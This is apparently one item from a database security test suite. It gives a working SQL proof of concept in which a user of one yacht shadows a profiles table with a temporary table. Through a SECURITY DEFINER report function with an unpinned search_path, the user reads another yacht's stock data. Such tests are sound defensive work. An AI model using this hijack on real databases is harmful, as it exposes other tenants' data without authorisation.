-- 41: /rpc/low_stock_report is SECURITY DEFINER without a pinned search_path and reads the caller's
-- yacht from an unqualified auth_users_profiles: the caller's own temporary table (pg_temp is
-- searched first for relations) names yacht B, and the report lists B's catalogue and stock
-- (CONTRACT §2: every SECURITY DEFINER function pins its search_path; §11.1).  Deckhand of yacht A,
-- through any path that runs SQL as authenticated on one connection (TEMP is granted to PUBLIC):
BEGIN;
SET LOCAL ROLE authenticated;
SELECT set_config('request.jwt.claims', '{"sub":"1129d21c-2c81-5d89-beb7-2b77d2c8b521","role":"authenticated"}', true);
DO $$
DECLARE n integer; ex text;
BEGIN
  CREATE TEMP TABLE auth_users_profiles (id uuid, yacht_id uuid, is_active boolean) ON COMMIT DROP;
  INSERT INTO pg_temp.auth_users_profiles VALUES (auth.uid(), 'bb0fb680-e2ab-5333-a4af-4a7395ba2dcd', true);
  EXECUTE 'SELECT count(*), min(part_name || '' x'' || on_hand) FROM public.low_stock_report()
           WHERE part_id IN (''07889066-4637-5cd3-b551-2f74dbad5c61'', ''ef9233a7-2456-5e94-b0f5-70f627630a4c'', ''10f700e9-7be7-50ab-ad6c-a326262ba822'')'
    INTO n, ex;
  IF n > 0 THEN
    RAISE NOTICE 'EXPLOITED: yacht A''s deckhand reads % low-stock line(s) of yacht B, e.g. %', n, ex;
  ELSE
    RAISE NOTICE 'REFUSED: no line of yacht B';
  END IF;
EXCEPTION WHEN OTHERS THEN
  RAISE NOTICE 'REFUSED: % %', SQLSTATE, SQLERRM;
END $$;
ROLLBACK;
